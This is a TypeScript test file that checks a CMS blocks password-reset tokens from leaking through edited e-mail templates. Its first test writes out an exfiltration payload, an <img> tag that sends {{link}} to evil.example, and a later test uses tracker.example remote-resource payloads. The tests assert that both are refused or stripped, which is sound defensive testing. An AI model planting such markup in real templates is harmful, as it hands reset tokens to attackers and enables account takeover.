import { authEndpoints, cmsEndpoints } from '@guardian/contracts';
import { and, desc, eq } from 'drizzle-orm';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { cmsTemplates, mailOutbox } from '../../../src/db/schema';
import { asRole, createAccount, createTestApp, databaseKind, type SignedIn, type TestApp } from '../../support/helper';
import { leaksIn, SMUGGLES } from '../../support/template-secrets-corpus';
import { request } from '../../support/request';

const RESET = and(eq(cmsTemplates.templateType, 1), eq(cmsTemplates.slug, 'forgot-password'));
const LINK = /http:\/\/guardian\.test\/auth\/reset-password\/([A-Za-z0-9_-]{40,})/;
const SECRET_MESSAGE = /^\{\{link\}\} carries a secret, so it may only be a whole link address \(href="\{\{link\}\}"\) or text\. Here it is in /;
const UNKNOWN_LINK = /^\{\{LINK\}\} is not a placeholder of this template\./;
const ONLY_SUPER_ADMINS = 'Only super admins can edit this template: the message it sends carries a secret link.';
/** Every draft keeps a proper link, so that a refusal is about where the smuggled placeholder stands. */
const withResetLink = (html: string) => `<p>Hello {{name}}</p>${html}<p><a href="{{link}}">Choose a new password</a></p>`;

describe(`secrets in e-mail templates on ${databaseKind}`, () => {
  let test: TestApp;
  let superAdmin: SignedIn;
  let admin: SignedIn;
  let resetId: number;
  let original: { subject: string | null; content: string };
  let address = 0;

  beforeAll(async () => {
    test = await createTestApp();
    superAdmin = await asRole(test, 2);
    admin = await asRole(test, 3);
    const [row] = await test.ctx.db.select().from(cmsTemplates).where(RESET);
    resetId = row!.id;
    original = { subject: row!.subject, content: row!.content };
  });
  afterAll(() => test.close());
  afterEach(async () => {
    await test.ctx.db.update(cmsTemplates).set(original).where(RESET);
  });

  const stored = async () => (await test.ctx.db.select().from(cmsTemplates).where(RESET))[0]!;
  const save = (who: SignedIn, payload: { content: string; subject?: string }) =>
    request(who, cmsEndpoints.updateEmailTemplate, { params: { id: resetId }, body: payload });

  /** Asks for a reset of `email` without signing in, as anyone can, and returns the mail the server wrote. */
  async function resetMailTo(email: string) {
    address += 1;
    const response = await request(test.app, authEndpoints.requestPasswordReset, { body: { email }, remoteAddress: `10.60.0.${address}` });
    expect(response.statusCode).toBe(200);
    const [mail] = await test.ctx.db.select().from(mailOutbox).where(eq(mailOutbox.toAddress, email)).orderBy(desc(mailOutbox.id)).limit(1);
    const token = mail?.text.match(LINK)?.[1];
    if (!mail || !token) throw new Error(`no reset link in the mail to ${email}`);
    return { ...mail, token, link: `http://guardian.test/auth/reset-password/${token}` };
  }

  it('the whole attack: an admin cannot edit the reset template, a super admin cannot put the link in a picture, the mail keeps the token home', async () => {
    const attack = withResetLink('<img src="https://evil.example/x.gif?t={{link}}">');

    const byAdmin = await save(admin, { content: attack });
    expect(byAdmin.statusCode).toBe(403);
    expect(byAdmin.json().message).toBe(ONLY_SUPER_ADMINS);
    expect(await stored()).toMatchObject(original);

    const bySuperAdmin = await save(superAdmin, { content: attack });
    expect(bySuperAdmin.statusCode).toBe(400);
    expect(bySuperAdmin.json()).toMatchObject({
      message: '{{link}} carries a secret, so it may only be a whole link address (href="{{link}}") or text. Here it is in the src of <img>.',
    });
    expect(await stored()).toMatchObject(original);

    const mail = await resetMailTo(superAdmin.account.email);
    expect(mail.html).not.toContain('evil.example');
    expect(mail.html).toContain(`<a href="${mail.link}">`);
    expect(leaksIn(mail.html, mail.token, mail.link)).toEqual([]);
    expect(mail.subject).not.toContain(mail.token);
  });

  it('lists which placeholders carry a secret, and an admin may still edit a template without one', async () => {
    const list = (await request(admin, cmsEndpoints.listTemplates, { query: { template_type: 1 } })).json().data as { eTempName: string; eTempId: number }[];
    expect(list.map((row) => [row.eTempName, (row as unknown as { secretPlaceholders: string[] }).secretPlaceholders])).toEqual([
      ['Forgot Password', ['link']],
      ['Welcome', []],
      ['Emergency Alert', []],
      ['Emergency Contact Consent', []],
    ]);
    const welcome = list.find((row) => row.eTempName === 'Welcome')!;
    const response = await request(admin, cmsEndpoints.updateEmailTemplate, { params: { id: welcome.eTempId }, body: { content: '<p>Hi {{name}}</p>' } });
    expect(response.statusCode).toBe(200);
  });

  it('refuses the link in the subject, naming the subject, and changes nothing', async () => {
    const response = await save(superAdmin, { subject: 'Your link: {{link}}', content: withResetLink('') });
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({
      message: '{{link}} carries a secret and cannot be in the subject. Put it in the content, as a link or as text.',
      errors: { subject: '{{link}} carries a secret and cannot be in the subject. Put it in the content, as a link or as text.' },
    });
    expect(await stored()).toMatchObject(original);
  });

  it('saves the link as a whole link address and as text, and mails both', async () => {
    const response = await save(superAdmin, { content: withResetLink('<p>Or paste {{ link }} into your browser.</p>') });
    expect(response.statusCode).toBe(200);
    const account = await createAccount(test.ctx);
    const mail = await resetMailTo(account.email);
    expect(mail.html).toContain(`<p>Or paste ${mail.link} into your browser.</p>`);
    expect(mail.html).toContain(`<a href="${mail.link}">Choose a new password</a>`);
    expect(leaksIn(mail.html, mail.token, mail.link)).toEqual([]);
  });

  it.each(SMUGGLES)('on save: $name is refused with a clear message, or stored where it cannot leak', async ({ html, refused }) => {
    const response = await save(superAdmin, { content: withResetLink(html) });
    if (refused) {
      expect(response.statusCode).toBe(400);
      expect(response.json().message).toMatch(html.includes('LINK') ? UNKNOWN_LINK : SECRET_MESSAGE);
      expect(await stored()).toMatchObject(original);
      return;
    }
    expect(response.statusCode).toBe(200);
    const mail = await resetMailTo((await createAccount(test.ctx)).email);
    expect(leaksIn(mail.html, mail.token, mail.link)).toEqual([]);
  });

  // A template stored before the rule (or written to the database directly) is rendered safely all the same.
  it.each(SMUGGLES)('at render: $name already stored gives a mail with the token only in its link and text', async ({ html }) => {
    await test.ctx.db
      .update(cmsTemplates)
      .set({ content: withResetLink(html), subject: 'Reset {{link}}' })
      .where(RESET);
    const mail = await resetMailTo((await createAccount(test.ctx)).email);
    expect(leaksIn(mail.html, mail.token, mail.link)).toEqual([]);
    expect(mail.html).toContain(`<a href="${mail.link}">Choose a new password</a>`);
    expect(mail.subject).toBe('Reset ');
  });

  it('a mail loads nothing from outside: remote pictures, srcset, styles and style sheets go, links and pasted pictures stay', async () => {
    const picture = 'data:image/png;base64,iVBORw0KGgo=';
    const content = withResetLink(
      '<img src="https://tracker.example/open.gif" alt="logo"><img srcset="https://tracker.example/a.png 2x"><img src="//tracker.example/p.gif">' +
        '<img src="/uploads/local.png"><p style="background-image:url(https://tracker.example/bg.png);text-align:center">centred</p>' +
        '<link rel="stylesheet" href="https://tracker.example/a.css"><style>@import url(https://tracker.example/b.css);</style>' +
        `<p><a href="https://guardian.example/help">help</a></p><p><img src="${picture}" alt="pasted"></p>`,
    );
    await test.ctx.db.update(cmsTemplates).set({ content }).where(RESET);
    const mail = await resetMailTo((await createAccount(test.ctx)).email);
    expect(mail.html).not.toContain('tracker.example');
    expect(mail.html).not.toContain('/uploads/local.png');
    expect(mail.html).toContain('<img alt="logo" />');
    expect(mail.html).toContain('<p style="text-align:center">centred</p>');
    expect(mail.html).toContain('<a href="https://guardian.example/help">help</a>');
    expect(mail.html).toContain(`<img src="${picture}" alt="pasted" />`);
    expect(leaksIn(mail.html, mail.token, mail.link)).toEqual([]);
  });
});
